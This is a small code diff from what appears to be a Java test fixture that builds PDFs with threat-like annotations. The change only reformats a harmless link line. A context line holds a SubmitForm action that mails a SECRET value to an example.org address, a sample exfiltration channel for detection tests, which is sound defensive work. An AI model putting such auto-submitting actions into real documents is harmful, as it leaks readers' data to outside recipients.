@@ -310,8 +310,7 @@ final class ObjectThreats {
 		pdf.annotation("Link", 300, 510, 100, 20)
 			.setItem("A", dictionary("S", "SubmitForm", "F",
 					dictionary("FS", "URL", "F", string("mailto:rosalind.thackeray@example.org?subject=" + SECRET))));
-		pdf.annotation("Link", 300, 480, 100, 20)
-			.setItem("A", dictionary("S", "URI", "URI", string(HARMLESS)));
+		pdf.annotation("Link", 300, 480, 100, 20).setItem("A", dictionary("S", "URI", "URI", string(HARMLESS)));
 	}
 
 	private static void coded(CorpusPdf pdf) {
